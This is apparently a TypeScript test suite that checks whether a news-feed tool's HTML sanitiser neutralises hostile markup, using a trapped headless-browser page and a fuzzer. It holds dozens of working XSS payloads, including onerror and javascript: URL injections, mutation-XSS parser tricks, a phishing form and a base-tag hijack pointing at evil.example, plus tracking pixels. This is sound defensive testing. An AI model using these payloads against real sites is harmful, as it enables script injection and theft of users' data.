/**
 * What `newswire publish` lets through of hostile feeds, in a plain page without our widgets and without a policy: the
 * page of whoever takes `content_html` at its word and sets it as markup.
 */
import assert from 'node:assert/strict';
import {existsSync, readFileSync} from 'node:fs';
import {after, describe, it, type TestContext} from 'node:test';
import {cleanStory, sanitizeNews} from '../../src/cli/news/clean.js';
import {ALLOWED} from '../../src/data/allowlist.js';
import {DataError} from '../../src/data/errors.js';
import {feedFromXml} from '../../src/data/feed.js';
import {parseNews, type Story} from '../../src/data/news.js';
import {CORPORA} from '../corpora/folder.mjs';
import {Hosts, pageOf, type Visit} from './host.js';

const hosts = await Hosts.start();
after(() => hosts.close());

const SITE = 'https://paper.example/';
const FEED = `${SITE}feed.xml`;

/** Runs in a page before anything of it does: what hostile markup usually calls, and whatever else it leaves behind. */
function trap(): void {
  const ran: string[] = [];
  Object.defineProperty(window, 'ran', {value: ran});
  for (const name of ['alert', 'confirm', 'print', 'prompt', 'open', 'eval']) {
    Object.assign(window, {
      [name]: (...values: unknown[]) => {
        ran.push(`${name}(${values.map(String).join()})`);
      },
    });
  }
  addEventListener('error', ({message}) => message && ran.push(`threw ${message}`));
  addEventListener('submit', (event) => {
    event.preventDefault();
    ran.push('submit');
  });
  Object.defineProperty(window, 'known', {value: new Set([...Object.getOwnPropertyNames(window), 'known'])});
}

type Trapped = typeof globalThis & {readonly ran: string[]; readonly known: ReadonlySet<string>};

/** A feed around a story's parts, in each way in which feeds carry HTML. */
const CARRIERS: Readonly<Record<string, (payload: string) => string>> = {
  'an escaped description': (payload) => rss(`<description>${escaped(payload)}</description>`),
  'a description that is escaped twice': (payload) => rss(`<description>${escaped(escaped(payload))}</description>`),
  'the bare description': (payload) => rss(`<description>${payload}</description>`),
  'content in CDATA': (payload) =>
    rss(
      `<description>Short</description><content:encoded><![CDATA[${payload.replaceAll(']]>', ']]]]><![CDATA[>')}]]></content:encoded>`,
    ),
  'content in CDATA that it may end': (payload) => rss(`<content:encoded><![CDATA[${payload}]]></content:encoded>`),
  'HTML in Atom': (payload) => atom(`<content type="html">${escaped(payload)}</content>`),
  'XHTML in Atom': (payload) =>
    atom(`<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">${payload}</div></content>`),
  'base64 in Atom': (payload) =>
    `<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>Paper</title><entry><id>1</id><title>Story</title><content type="text/html" mode="base64">${Buffer.from(payload).toString('base64')}</content></entry></feed>`,
  'an attribute of a picture': (payload) =>
    rss(
      `<description>${escaped(`<p>Text <img src="https://pictures.example/a.jpg" alt="${payload.replaceAll('"', '&quot;')}"></p>`)}</description>`,
    ),
};

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

const rss = (inside: string): string =>
  `<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Paper</title><link>${SITE}</link><item><guid>1</guid><title>Story</title>${inside}</item></channel></rss>`;

const atom = (inside: string): string =>
  `<feed xmlns="http://www.w3.org/2005/Atom"><title>Paper</title><link href="${SITE}"/><entry><id>1</id><title>Story</title>${inside}</entry></feed>`;

/** The stories of a feed as they are published; none where the payload made it unreadable. */
function published(markup: string): Story[] {
  try {
    const {stories} = parseNews(feedFromXml(markup, FEED), {url: FEED});
    return stories.map((story) => cleanStory(story, {content: 'full'}));
  } catch (error) {
    if (error instanceof DataError) return [];
    throw error;
  }
}

/** Every different markup that comes of payloads, and of which it came. */
function sanitized(payloads: readonly string[]): Map<string, string> {
  const found = new Map<string, string>();
  for (const payload of payloads) {
    const add = (html = '', how: string): void => {
      if (html && !found.has(html)) found.set(html, `${how}: ${payload.slice(0, 300)}`);
    };
    add(sanitizeNews(payload, SITE), 'sanitised alone');
    for (const [name, carrier] of Object.entries(CARRIERS)) {
      for (const {content_html} of published(carrier(payload))) add(content_html, name);
    }
  }
  return found;
}

/** What a page reports of one markup. */
interface Seen {
  readonly faults: string[];
}

/** Sets each markup in the page, writes out what came of it, and sets that again, twice. */
async function shown(t: TestContext, markups: readonly string[]): Promise<{visit: Visit; seen: Seen[]; ran: string[]}> {
  const visit = await hosts.visit(t, pageOf('<main></main>'), {
    defines: [],
    before: trap,
    hold: (url) => (url.startsWith('http://127.0.0.1:') ? undefined : 'fail'),
  });
  const seen = await visit.page.evaluate(inspect, [...markups], {
    tags: ALLOWED.tags,
    attributes: ALLOWED.attributes,
  });
  await visit.page.waitForNetworkIdle({idleTime: 200});
  const ran = await visit.page.evaluate(() => {
    const {ran, known} = window as unknown as Trapped;
    const added = Object.getOwnPropertyNames(window).filter((name) => !known.has(name));
    return [...ran, ...added.map((name) => `a new global ${name}`), ...(window.length ? ['a frame'] : [])];
  });
  return {visit, seen, ran};
}

/** Runs in the page. (No function in it has a name: the compiler would mark it with a function that the page lacks.) */
async function inspect(
  markups: readonly string[],
  allowed: {tags: readonly string[]; attributes: Readonly<Record<string, readonly string[]>>},
): Promise<Seen[]> {
  const main = document.querySelector('main')!;
  const results = markups.map((markup) => {
    const faults: string[] = [];
    const places: Element[] = [];
    // Markup that becomes something else when it is written out and read again can hide what it is.
    for (let written = markup; places.length < 3; written = places[places.length - 1]!.innerHTML) {
      const place = document.createElement('div');
      main.append(place);
      place.innerHTML = written;
      if (places.length && place.innerHTML !== written) faults.push(`becomes ${place.innerHTML} when it is read again`);
      places.push(place);
    }
    for (const element of places.flatMap((place) => [...place.querySelectorAll<HTMLElement>('*')])) {
      const {localName, namespaceURI, attributes} = element;
      if (namespaceURI !== 'http://www.w3.org/1999/xhtml' || !allowed.tags.includes(localName)) {
        faults.push(`<${localName}>`);
      }
      for (const {name, value} of attributes) {
        const isKnown = [...(allowed.attributes['*'] ?? []), ...(allowed.attributes[localName] ?? [])].includes(name);
        if (!isKnown || /^on|^style$|^id$|^name$|^class$/.test(name)) faults.push(`<${localName} ${name}>`);
        if (/href$/.test(name) && !/^https?:\/\//i.test(value)) faults.push(`leads to ${value}`);
        if (/src/.test(name) && !/^https:\/\//i.test(value)) faults.push(`asks for ${value}`);
      }
      if (element instanceof HTMLAnchorElement && element.href && !/^https?:$/.test(element.protocol)) {
        faults.push(`leads to ${element.href}`);
      }
      if (element instanceof HTMLImageElement && (element.width === 1 || element.height === 1)) {
        faults.push('a picture of one pixel');
      }
    }
    return {faults: [...new Set(faults)]};
  });
  for (const image of main.querySelectorAll('img')) image.loading = 'eager';
  // The most curious of readers: touches everything, and follows no link off the page.
  main.addEventListener('click', (event) => {
    const {target} = event;
    const link = target instanceof Element ? target.closest('a') : undefined;
    if (link && /^https?:$/.test(link.protocol)) event.preventDefault();
  });
  for (const element of main.querySelectorAll<HTMLElement>('*')) {
    for (const type of ['mouseover', 'pointerenter', 'focus', 'toggle', 'animationstart']) {
      element.dispatchEvent(new CustomEvent(type, {bubbles: true}));
    }
    element.click?.();
  }
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  return results;
}

/** Nothing ran or was asked for but pictures, and all that stands in the page may stand there. */
async function isSafe(t: TestContext, markups: ReadonlyMap<string, string>): Promise<void> {
  const all = [...markups.keys()];
  const {visit, seen, ran} = await shown(t, all);
  const faults = seen.flatMap(({faults}, index) =>
    faults.length ? [`${faults.join(', ')} in ${all[index] ?? ''} (${markups.get(all[index] ?? '') ?? ''})`] : [],
  );
  const asked = visit.requested.filter((url) => !url.startsWith('https://') && !url.startsWith(hosts.partner.origin));
  // Sanitised again, it is the same: nothing of it was harmless only by chance.
  const changed = all.filter((html) => sanitizeNews(html, SITE) !== html).slice(0, 5);
  assert.deepEqual(
    {faults: faults.slice(0, 8), ran, asked, thrown: visit.thrown, said: visit.said, changed},
    {faults: [], ran: [], asked: [], thrown: [], said: [], changed: []},
  );
  assert.match(visit.page.url(), new RegExp(`^${hosts.partner.origin}/doc/page-`));
}

/** The same markup in a page that a server wrote, which is read with other rules than what a script sets. */
async function isSafeWritten(t: TestContext, markups: ReadonlyMap<string, string>): Promise<void> {
  const body = [...markups.keys()].map((html) => `<div class="place">${html}</div>`).join('\n');
  const visit = await hosts.visit(t, pageOf(`<main>${body}</main>`), {
    defines: [],
    before: trap,
    hold: (url) => (url.startsWith('http://127.0.0.1:') ? undefined : 'fail'),
  });
  await visit.page.waitForNetworkIdle({idleTime: 200});
  const {ran, places, tags} = await visit.page.evaluate(() => ({
    ran: (window as unknown as Trapped).ran,
    places: document.querySelectorAll('main > .place').length,
    tags: [...new Set([...document.querySelectorAll('main *')].map(({localName}) => localName))],
  }));
  assert.deepEqual(
    {ran, places, strange: tags.filter((tag) => tag !== 'div' && !ALLOWED.tags.includes(tag)), thrown: visit.thrown},
    {ran: [], places: markups.size, strange: [], thrown: []},
  );
}

/** Ways in which markup was made to run, or to cover, collect or follow, that have nothing in common. */
const OWN: readonly string[] = [
  // Plain.
  '<p>Water</p><script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
  '<img src=x onerror=alert(2)>',
  '<img/src="x"/onerror="alert(3)">',
  '<p onclick=alert(4)>Press</p>',
  '<details open ontoggle=alert(5)><summary>More</summary></details>',
  '<a href="javascript:alert(6)">Read on</a>',
  '<a href=" &#1; java&Tab;script&colon;alert(7)">Read on</a>',
  '<a href="java\nscript:alert(8)">Read on</a>',
  '<a href="data:text/html,<script>alert(9)</script>">Read on</a>',
  '<a href="vbscript:msgbox(10)">Read on</a>',
  '<a href="https://user:secret@evil.example/">Read on</a>',
  '<iframe src="javascript:alert(11)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(12)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(13)</script>"></object>',
  '<embed src="javascript:alert(14)">',
  '<base href="https://evil.example/"><a href="/a">Read on</a><img src="/b.png">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/b">',
  '<style>body{display:none}@import "https://evil.example/c.css";</style><p>Water</p>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/d)">Water</p>',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(15)><button>Log in</button></form>',
  '<input type=image src="https://evil.example/e" formaction="javascript:alert(16)">',
  '<video src="https://evil.example/f" poster="javascript:alert(17)" autoplay onloadstart=alert(18)></video>',
  '<audio src onerror=alert(19)></audio>',
  // Pictures that count, or that come over http.
  '<p>Rain<img src="https://counter.example/pixel.gif" width="1" height="1"></p>',
  '<img src="http://pictures.example/plain.jpg"><img src="//pictures.example/scheme.jpg">',
  '<img src="https://pictures.example/a.jpg" srcset="http://evil.example/a 1x, javascript:alert(20) 2x">',
  // Other languages inside HTML.
  '<svg onload=alert(21)><script>alert(22)</script></svg>',
  '<svg><a xlink:href="javascript:alert(23)"><text>Press</text></a></svg>',
  '<svg><animate onbegin=alert(24) attributeName=x dur=1s></svg>',
  '<svg><style><img src=x onerror=alert(25)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(26)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(27)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(28)>',
  // Text that another parser reads as markup.
  '<noscript><p title="</noscript><img src=x onerror=alert(29)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(30)></textarea>',
  '<title></title><img src=x onerror=alert(31)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(32)>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=alert(33)>"></noembed>',
  '<!--><img src=x onerror=alert(34)>-->',
  '<!-- --!><img src=x onerror=alert(35)> -->',
  '<![CDATA[><img src=x onerror=alert(36)>]]>',
  '<?xml-stylesheet ><img src=x onerror=alert(37)> ?>',
  '<template><img src=x onerror=alert(38)></template><template shadowrootmode="open"><script>alert(39)</script></template>',
  '<plaintext><img src=x onerror=alert(40)>',
  '<p title="a\u0000b" lang="--><img src=x onerror=alert(41)>">Water</p>',
  '<time datetime="&quot;><img src=x onerror=alert(42)>">Tuesday</time>',
  '<a href="https://a.example/&quot; onmouseover=&quot;alert(43)">Read on</a>',
  '&lt;img src=x onerror=alert(44)&gt;',
  '<select><option><script>alert(45)</script></select>',
  '<table><tr><td><form><table><caption><img src=x onerror=alert(46)></table>',
  // Names that scripts of the page look up.
  '<a id="known" name="ran" href="https://a.example/">a</a><img name="getElementById" src="https://pictures.example/b.jpg">',
  '<p is="x-a" slot="b" part="c" contenteditable autofocus tabindex=1 accesskey=x popover>Water</p>',
  '<x-widget onclick=alert(47)><news-card src="https://evil.example/a.json"></news-card></x-widget>',
  '<p>'.repeat(600) + '<b>'.repeat(600) + '<img src=x onerror=alert(48)>',
  '<p>\u202Etxet<bdo dir=rtl>backwards</bdo></p>',
];

describe('in a plain page, what is published of a hostile feed', () => {
  const markups = sanitized(OWN);

  it('is harmless when a script sets it as markup, however the feed carried it', async (t) => {
    await isSafe(t, markups);
  });

  it('is harmless when a server writes it into its page', async (t) => {
    await isSafeWritten(t, markups);
  });

  it('still has the words and the safe picture of a story', () => {
    const [story] = published(
      rss(
        `<description>${escaped('<p>Rain <b>fell</b>.<script>alert(1)</script><img src="/a.jpg" onerror=alert(1) alt="Rain" width="640" height="360"></p>')}</description>`,
      ),
    );
    const html = story?.content_html ?? '';
    assert.ok(html.includes('Rain <b>fell</b>.'), html);
    assert.match(html, /<img [^>]*src="https:\/\/paper\.example\/a\.jpg"/);
  });
});

/** More find more, and take longer: NEWSWIRE_MIXTURES=100000. */
const MIXTURES = Number(process.env.NEWSWIRE_MIXTURES ?? 3_000);

/** What markup that hides something is made of: ends and starts that parsers disagree on. */
const PIECES: readonly string[] = [
  ...'p div b i a span table tbody tr td th caption ul li dl dd figure figcaption blockquote pre h2 form select'.split(
    ' ',
  ),
  ...'option textarea title style script noscript template iframe noembed noframes xmp plaintext svg math mi mtext'.split(
    ' ',
  ),
  ...'mglyph malignmark annotation-xml foreignObject desc image frameset button object marquee font nobr ruby rt'.split(
    ' ',
  ),
].flatMap((tag) => [`<${tag}>`, `</${tag}>`]);
const CUTS: readonly string[] = [
  ...[
    '<!--',
    '-->',
    '--!>',
    '<!',
    '<?',
    '?>',
    '<![CDATA[',
    ']]>',
    '</',
    '<',
    '>',
    '"',
    "'",
    '`',
    '=',
    '/',
    '\u0000',
    '&lt;',
  ],
  ...[
    '&quot;',
    '&#60',
    '&NewLine;',
    '<p title="',
    '<a href="',
    '<img alt="',
    '<img src="https://pictures.example/a.jpg">',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(2)">',
    ' onclick=alert(3) ',
    '<p lang="',
    'text',
    '\n',
  ],
  ...[
    '<br/>',
    '<svg/>',
    '<a/>',
    '<style/>',
    '<annotation-xml encoding="text/html">',
    '<font color=red>',
    '<input type=hidden>',
  ],
];

/** Pieces at random, the same in every run. */
function mixtures(count: number): string[] {
  let seed = 1;
  const below = (count: number): number => {
    seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff;
    return Math.floor((seed / 0x80000000) * count);
  };
  return Array.from({length: count}, () =>
    Array.from({length: 2 + below(14)}, () => {
      const pieces = below(3) ? PIECES : CUTS;
      return pieces[below(pieces.length)] ?? '';
    }).join(''),
  );
}

describe('in a plain page, what is left of pieces of markup put together at random', () => {
  const markups = new Map(mixtures(MIXTURES).map((payload) => [sanitizeNews(payload, SITE), payload]));

  it('is harmless, and is read as it was written', async (t) => {
    assert.ok(markups.size > MIXTURES / 10, `${String(markups.size)} differ`);
    await isSafe(t, markups);
  });
});

describe('the page that watches hostile markup', () => {
  it('notices what runs, is asked for and does not belong where nothing is sanitised', async (t) => {
    const raw = [
      '<img src=x onerror="alert(1)">',
      '<p onclick="alert(2)">Press</p>',
      '<a href="javascript:alert(3)">Press</a>',
      '<style>p { color: red }</style>',
      '<form><input></form>',
      '<img src="http://pictures.example/plain.jpg">',
      '<img src=x onerror="window.left = 1">',
    ];
    const {visit, seen, ran} = await shown(t, raw);
    for (const [index, {faults}] of seen.entries()) assert.notDeepEqual(faults, [], raw[index]);
    for (const found of ['alert(1)', 'alert(2)', 'alert(3)', 'a new global left']) {
      assert.ok(ran.includes(found), `${found} is not in ${ran.join(', ')}`);
    }
    assert.ok(visit.requested.includes('http://pictures.example/plain.jpg'));
  });
});

/** Hostile HTML of others, where it lies beside the project: `{title, payload}[]`. */
const file = `${CORPORA}/xss/payloads.json`;
const skip = existsSync(file)
  ? false
  : 'there is no xss/payloads.json in ../shared/corpora, or in the folder that NEWSWIRE_CORPORA names';

if (skip) console.log(`Leaves the payloads of others out: ${skip}.`);

describe('payloads that broke sanitisers of others, carried by a feed', {skip}, () => {
  const payloads = skip
    ? []
    : (JSON.parse(readFileSync(file, 'utf8')) as {payload: string}[]).map(({payload}) => payload);
  const markups = sanitized(payloads);

  it('are all there', () => {
    assert.ok(payloads.length > 200, `there are ${String(payloads.length)}`);
  });

  it('are harmless when a script sets what is published of them as markup', async (t) => {
    await isSafe(t, markups);
  });

  it('are harmless when a server writes what is published of them into its page', async (t) => {
    await isSafeWritten(t, markups);
  });
});
